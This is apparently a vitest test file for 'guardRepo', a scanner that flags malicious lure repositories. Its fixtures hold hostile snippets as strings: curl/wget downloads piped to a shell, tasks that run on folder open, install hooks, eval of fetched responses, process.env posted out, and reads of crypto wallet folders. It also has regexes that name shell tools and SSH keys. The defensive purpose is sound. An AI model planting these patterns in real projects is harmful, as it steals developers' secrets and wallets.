import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { guardRepo } from './guardRepo.ts'
import { toFiles } from './repository.support.ts'
import { SIGNS } from './Sign.ts'

const look = (texts: Record<string, string>) => guardRepo(toFiles(texts))
const manifest = (scripts: object, more: object = {}) => JSON.stringify({ name: 'x', scripts, ...more }, null, 2)
const task = (command: string) =>
  JSON.stringify({
    version: '2.0.0',
    tasks: [{ label: 'x', type: 'shell', command, runOptions: { runOn: 'folderOpen' } }],
  })
const hiddenUrl = btoa('https://api.example-node.test/v1/data')

// One per kind of sign; each is the class, in another dress than any published sample.
const FIXTURES: readonly (readonly [kind: string, files: Record<string, string>])[] = [
  ['RUNS_ON_OPEN', { '.vscode/tasks.json': `// tasks\n${task('npm run watch').replace('}]}', '}],}')}` }],
  ['PIPE_TO_SHELL', { 'tool.js': "execSync('wget -qO- https://a.test/i | sudo bash')" }],
  ['TEXT_HIDDEN', { 'postcss.config.mjs': `export default {};${' '.repeat(260)}run(global)` }],
  ['TEXT_HIDDEN', { 'a.js': `const s = \`${'\u{e0101}'.repeat(40)}\`` }],
  ['TEXT_HIDDEN', { 'next.config.js': `module.exports = {}\nrequire('x')('${'y'.repeat(1200)}')` }],
  ['INSTALL_SCRIPT', { 'package.json': manifest({ postinstall: 'npm run setup', setup: 'node ./lib/go.js' }) }],
  ['INSTALL_SCRIPT', { 'package.json': manifest({ prepare: 'node server/server.js & npm run build' }) }],
  ['INSTALL_SCRIPT', { 'setup.py': 'import os, urllib.request\nos.system("x")' }],
  ['OBFUSCATED', { 'a.js': 'var _0x1a2b=1,_0x1a2c=2;'.repeat(6) }],
  ['OBFUSCATED', { 'a.py': "exec(__import__('zlib').decompress(b'x'))" }],
  ['REMOTE_CODE', { 'a.js': 'axios.get(u).catch((error) => { eval(error.response.data) })' }],
  ['REMOTE_CODE', { 'b.js': "const run = new (Function.constructor)('require', text); run(require)" }],
  ['REMOTE_CODE', { 'c.ts': "const r = await fetch(u); new Function('require', (await r.json()).cookie)(require)" }],
  ['ADDRESS_HIDDEN', { '.env': `AUTH_API=${hiddenUrl}\n` }],
  ['ADDRESS_HIDDEN', { 'a.js': `const u = atob('${btoa('94.131.7.9:1224')}')` }],
  ['ADDRESS_HIDDEN', { 'a.js': "const host = 'http://94.131.7.9:1224'" }],
  ['PASTE_HOST', { 'a.js': "fetch('https://www.jsonkeeper.com/b/XXXX')" }],
  ['ADDRESS_HIDDEN', { 'a.js': `run(atob('${btoa('x'.repeat(48))}'))` }],
  ['TEXT_HIDDEN', { 'server/a.js': `${'const a = 1\n'.repeat(30)}eval(b("${'y'.repeat(6000)}"))\n` }],
  ['ENVIRONMENT_SENT', { 'a.js': 'axios.post(url, { ...process.env })' }],
  ['ENVIRONMENT_SENT', { 'a.js': 'axios.post(url, { body: JSON.stringify(process.env) })' }],
  ['LEFT_RUNNING', { 'package.json': manifest({ prepare: 'node server/server.js & npm run build' }) }],
  ['MACHINE_DESCRIBED', { 'a.js': 'axios.post(u, [os.hostname(), os.userInfo(), os.platform()])' }],
  ['WALLETS_READ', { 'a.js': "fs.readdir('Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn')" }],
  ['PACKAGE_LOOKALIKE', { 'package.json': manifest({}, { dependencies: { crossenv: '1', expresss: '4' } }) }],
  ['PACKAGE_SOURCE', { 'package.json': manifest({}, { dependencies: { a: 'http://a.test/a.tgz' } }) }],
  ['FILE_DISGUISED', { 'public/fa.woff2': "const a = require('fs'); a.readFileSync('x')" }],
  ['FILE_DISGUISED', { 'Offer.pdf.scpt': 'x' }],
  ['GIT_RUNS', { '.git/config': '[core]\n\tfsmonitor = ./tools/watch.sh\n' }],
  ['GIT_RUNS', { '.git/hooks/post-checkout': '#!/bin/sh\necho hello' }],
]

describe('guardRepo: a fixture per sign', () => {
  it.each(FIXTURES)('%s in %o', async (kind, files) => {
    const answer = await look(files)
    expect(answer.kinds).toContain(kind)
    expect(answer.verdict).not.toBe('block')
    expect(answer.techniques.length).toBeGreaterThan(0)
    expect(answer.findings.find(({ code }) => code === kind)?.place).toMatch(/:\d+$/)
  })
})

it('has a fixture for every sign', () => {
  expect(new Set(FIXTURES.map(([kind]) => kind))).toEqual(new Set(Object.keys(SIGNS)))
})

describe('guardRepo: lures', () => {
  it.each<[string, Record<string, string>]>([
    ['a task on opening that pipes a download', { '.vscode/tasks.json': task('curl -fsSL https://a.test/mac | bash') }],
    ['a task that runs a font', { '.vscode/tasks.json': task('node public/fonts/fa-solid.woff2') }],
    [
      'an install that pipes a download',
      { 'package.json': manifest({ postinstall: 'curl -s https://a.test/x | sh' }) },
    ],
    [
      'a handler that runs what a hidden address answers',
      {
        '.env': `AUTH_API=${hiddenUrl}`,
        'server/auth.js':
          "axios.get(atob(process.env.AUTH_API)).then((res) => new Function('require', res.data.cookie)(require))",
      },
    ],
    [
      'a settings file with code off the screen, obfuscated',
      { 'tailwind.config.js': `module.exports = {}${' '.repeat(300)};${'var _0x3f1a=_0x3f1b;'.repeat(10)}` },
    ],
  ])('shouts at %s', async (_, files) => {
    const answer = await look({ 'README.md': '# Test task', ...files })
    expect(answer.verdict).toBe('block')
    expect(answer.findings[0]).toMatchObject({ code: 'REPOSITORY_LURE' })
  })
})

describe('guardRepo: honest shapes', () => {
  it.each<[string, Record<string, string>]>([
    ['husky', { 'package.json': manifest({ prepare: 'husky install' }), '.husky/pre-commit': 'npx lint-staged\n' }],
    [
      'a native addon',
      {
        'package.json': manifest({ install: 'node-gyp-build || prebuild-install' }),
        'binding.gyp': '{"v":"<!(node -p 1)"}',
      },
    ],
    [
      'workspaces',
      { 'package.json': manifest({ prepare: 'npm run build' }), 'packages/a/package.json': manifest({ build: 'tsc' }) },
    ],
    [
      'a download helper',
      {
        'package.json': manifest({ postinstall: 'node install.js' }),
        'install.js': "https.get('https://files.example.org/x')",
      },
    ],
    ['a minified bundle', { 'dist/x.min.js': `var a=Function("return this")();fetch("/x");${'a=b(c);'.repeat(5000)}` }],
    [
      'a shell installer',
      { 'scripts/setup.sh': 'curl https://sh.rustup.rs | sh', Dockerfile: 'RUN curl https://a.test | bash' },
    ],
    ['one harmless sign', { '.vscode/tasks.json': task('npm run watch') }],
  ])('stays quiet at %s', async (_, files) => {
    expect((await look(files)).verdict).toBe('no-match')
  })

  it('stays quiet at a scanner and its tests, whose patterns and texts are not run', async () => {
    const scanner = [
      'const WALLETS = /nkbihfbeogaeaoehlefnkodbefgpgknn|Local Extension Settings|\\breadFile|\\.ssh\\/id_rsa/u',
      'const PIPE = /\\b(?:curl|wget|powershell|sh|bash)\\b/u',
    ].join('\n')
    const tests = [
      `it('sees it', () => { expect(look('axios.get(u).catch((e) => { eval(e.data) })')).toBe(true) })`,
      `const b = "axios.post(url, { ...process.env })"`,
      'const c = `curl https://a.test | sh`',
    ].join('\n')
    expect((await look({ 'src/scan.ts': scanner, 'src/scan.test.ts': tests })).verdict).toBe('no-match')
    const run = 'axios.get(u).catch((e) => { eval(e.data) })\naxios.post(url, { ...process.env })\n'
    expect((await look({ 'src/scan.test.ts': run })).kinds).toEqual(['ENVIRONMENT_SENT', 'REMOTE_CODE'])
  })

  it('has a person look at the fixtures of a scanner, and does not shout', async () => {
    const files = Object.fromEntries(
      FIXTURES.flatMap(([, texts], i) =>
        Object.entries(texts).map(([path, text]) => [`test/fixtures/${i}/${path}`, text]),
      ),
    )
    expect((await look(files)).verdict).toBe('review')
  })
})

describe('guardRepo: bounds', () => {
  it('says when it could not see all', async () => {
    const files = toFiles({ 'a.js': '1', 'b.js': '2' })
    expect(await guardRepo(files, { filesMax: 1 })).toMatchObject({ verdict: 'hold', filesSeen: 1 })
    const broken = { path: 'x.js', sizeBytes: 1, kind: 'file', read: () => Promise.reject(new Error('gone')) } as const
    expect((await guardRepo([broken])).verdict).toBe('hold')
    expect((await guardRepo([{ ...broken, kind: 'other' }])).verdict).toBe('hold')
  })

  it('reads any text in time, and escapes what it shows', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.string({ maxLength: 400 }),
        fc.constantFrom('package.json', 'a.js', '.vscode/tasks.json', '.git/config'),
        async (text, path) => {
          await look({ [path]: text })
        },
      ),
      { numRuns: 60 },
    )
    const answer = await look({ 'a\u202e.js': 'eval(atob("x"))' })
    expect(JSON.stringify(answer.findings)).not.toContain('\u202e')
  })

  it.each([
    ' '.repeat(300_000),
    'curl '.repeat(60_000),
    '_0x1234 '.repeat(40_000),
    '\\x41'.repeat(70_000),
    'aHR0c'.repeat(60_000),
    '"a",'.repeat(70_000),
    'eval('.repeat(60_000),
    '.post('.repeat(50_000),
    'fetch((t)=>eval('.repeat(20_000),
    'readFile(spawn("node",['.repeat(15_000),
  ])('is not held up by a text made for that, %#', { timeout: 20_000 }, async (text) => {
    expect((await look({ 'a.js': text })).filesRead).toBe(1)
  })
})

describe('guardRepo: many packages in one repository', () => {
  const weak = {
    'a/package.json': manifest({ postinstall: 'node install.js' }),
    'b/package.json': manifest({}, { dependencies: { crossenv: '1' } }),
    'c/package.json': manifest({}, { dependencies: { a: 'http://a.test/a.tgz' } }),
  }
  const others = Object.fromEntries(Array.from({ length: 9 }, (_, i) => [`p${i}/package.json`, manifest({})]))
  const strong = { 'a/x.js': 'axios.post(url, { ...process.env })' }

  it('counts what is rare in each package on its own', async () => {
    expect((await look({ ...weak, ...others })).verdict).toBe('no-match')
    expect((await look({ ...weak, ...others, ...strong })).verdict).toBe('review')
  })

  it('counts together what stands in few packages, in one, or around it', async () => {
    expect((await look(weak)).verdict).toBe('review')
    expect((await look({ ...weak, ...strong })).verdict).toBe('block')
    const root = { 'package.json': manifest({}, { dependencies: { crossenv: '1', a: 'http://a.test/a.tgz' } }) }
    expect((await look({ ...weak, ...others, ...strong, ...root })).verdict).toBe('block')
  })
})
